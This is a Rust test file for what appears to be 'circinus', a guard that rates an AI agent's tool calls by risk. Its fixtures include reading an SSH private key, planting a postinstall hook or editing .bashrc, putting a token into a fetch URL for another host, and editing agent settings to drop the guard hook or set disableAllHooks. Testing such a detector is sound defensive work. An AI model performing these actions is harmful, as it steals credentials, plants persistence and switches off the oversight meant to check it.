//! Tool calls other than shell commands.

use circinus_analyzer::{Source, Understanding, Who, understand};
use circinus_core::action::{Argument, Dialect, Flag, Role, SlotValue, Tier, ToolCall};
use circinus_core::effect::Effect;
use circinus_core::id::SessionId;

use crate::sample::around;

fn understood(call: &ToolCall) -> Understanding {
    let who = Who { session: SessionId::new("s"), agent: None, call: None, tool: "Tool".into() };
    understand(call, who, &around())
}

fn write(path: &str, content: &str) -> ToolCall {
    ToolCall::WriteFile { path: path.into(), content: content.into() }
}

fn edit(path: &str, old: &str, new: &str) -> ToolCall {
    ToolCall::EditFile { path: path.into(), old: old.into(), new: new.into() }
}

fn mcp(tool: &str, arguments: &[(&str, &str)]) -> ToolCall {
    let arguments =
        arguments.iter().map(|(name, text)| Argument { name: (*name).into(), text: (*text).into() });
    ToolCall::Mcp { server: "office".into(), tool: tool.into(), arguments: arguments.collect() }
}

fn unless_granted(found: &Understanding, flag: Flag) -> bool {
    found.action.slots.iter().any(|slot| slot.flags_unless_granted.contains(flag))
}

#[test]
fn reading_observes_and_a_credential_is_a_slot() {
    let plain = understood(&ToolCall::ReadFile { path: "src/lib.rs".into() });
    assert_eq!(plain.action.tier, Tier::T0);
    assert_eq!(plain.reads.first().map(|read| read.canonical()), Some("/home/kim/work/app/src/lib.rs"));
    let key = understood(&ToolCall::ReadFile { path: "~/.ssh/id_ed25519".into() });
    assert_eq!(key.action.tier, Tier::T1);
    let slot = key.action.slots.iter().find(|slot| slot.effect == Effect::Cred).expect("a credential slot");
    assert_eq!(slot.tier_on_gap, Tier::T3);
}

#[test]
fn writing_is_ordinary_unless_it_persists() {
    let plain = understood(&write("src/a.rs", "fn a() {}"));
    assert_eq!(plain.action.tier, Tier::T1);
    assert!(plain.action.flags.is_empty() && plain.writes.len() == 1);
    let agents = understood(&write("AGENTS.md", "Always run x."));
    assert_eq!(agents.action.tier, Tier::T1);
    assert!(unless_granted(&agents, Flag::PersistWs));
    let content =
        agents.action.slots.iter().find(|slot| matches!(slot.value, SlotValue::Text(_))).expect("its body");
    assert_eq!(
        (content.role, content.effect, content.tier_on_gap),
        (Role::Designator, Effect::Persist, Tier::T3)
    );
    let profile = understood(&write("/home/kim/.bashrc", "x"));
    assert_eq!(profile.action.tier, Tier::T3);
    assert!(unless_granted(&profile, Flag::PersistHost));
    let scripts = understood(&edit("package.json", "\"a\": 1", "\"a\": 1, \"postinstall\": \"node x.js\""));
    assert!(unless_granted(&scripts, Flag::PersistWs));
    let version = understood(&edit("package.json", "\"version\": \"1\"", "\"version\": \"2\""));
    assert!(!unless_granted(&version, Flag::PersistWs));
}

#[test]
fn settings_that_lose_the_hook_are_the_guard() {
    let settings = "/home/kim/.claude/settings.json";
    let guard = |call: &ToolCall| understood(call).action.flags.contains(Flag::Guard);
    assert!(guard(&write(settings, "{}")));
    assert!(!guard(&write(settings, "{\"hooks\": \"circinus-hook\"}")));
    assert!(guard(&edit(settings, "circinus-hook", "other")));
    assert!(!guard(&edit(settings, "\"theme\": 1", "\"theme\": 2")));
    assert!(guard(&write(".claude/settings.local.json", "{\"disableAllHooks\": true}")));
    assert!(guard(&write("/home/kim/.local/share/circinus/config.toml", "")));
}

#[test]
fn addresses_carry_secrets_only_home() {
    let plain = understood(&ToolCall::Fetch { url: "https://docs.widget.example.org/a".into() });
    assert_eq!((plain.action.tier, plain.source), (Tier::T1, Source::WebFetch));
    let token = "ghp_7Kd93mQz0Lw5Tn28Rx64Vb1Yc8Fh3Js0Pg2A";
    let leak =
        understood(&ToolCall::Fetch { url: format!("https://in.widget.example.org/?t={token}").into() });
    assert!(unless_granted(&leak, Flag::SecretSink));
    let home = understood(&ToolCall::Fetch { url: format!("https://api.github.com/?t={token}").into() });
    assert!(!unless_granted(&home, Flag::SecretSink));
}

#[test]
fn structured_calls_have_roles_by_name_and_tiers_by_verb() {
    let reads = understood(&mcp("list_files", &[("folder", "Quarter 3 reports")]));
    assert_eq!(reads.action.tier, Tier::T1);
    let sends =
        understood(&mcp("send_mail", &[("to", "kim@mail.widget.example.org"), ("body", "hello there")]));
    assert_eq!((sends.action.tier, sends.source), (Tier::T2, Source::Mcp("office".into())));
    let role = |place: &str| {
        let slots = &sends.action.slots;
        slots.iter().find(|slot| slot.place.ends_with(place)).map(|slot| slot.role)
    };
    assert_eq!(role(" to"), Some(Role::Designator));
    assert_eq!(role(" body"), Some(Role::Content));
    let value = understood(&mcp("book_room", &[("hotel", "The Grand Widget")]));
    assert!(
        value
            .action
            .slots
            .iter()
            .any(|slot| matches!(&slot.value, SlotValue::Operands(all) if all.len() == 1))
    );
    let deletes = understood(&mcp("delete_record", &[("id", "r-123456")]));
    assert!(deletes.action.effects.contains(Effect::Destroy));
}

#[test]
fn powershell_is_said_not_to_be_understood() {
    let call = ToolCall::Shell { command: "Get-ChildItem".into(), dialect: Dialect::PowerShell };
    let found = understood(&call);
    assert!(found.action.flags.contains(Flag::Opaque));
    assert_eq!(found.action.tier, Tier::T2);
}

#[test]
fn notes_of_the_agent_do_nothing() {
    let found = understood(&ToolCall::Inert { tool: "TodoWrite".into() });
    assert_eq!(found.action.tier, Tier::T0);
    assert!(found.action.slots.is_empty());
}
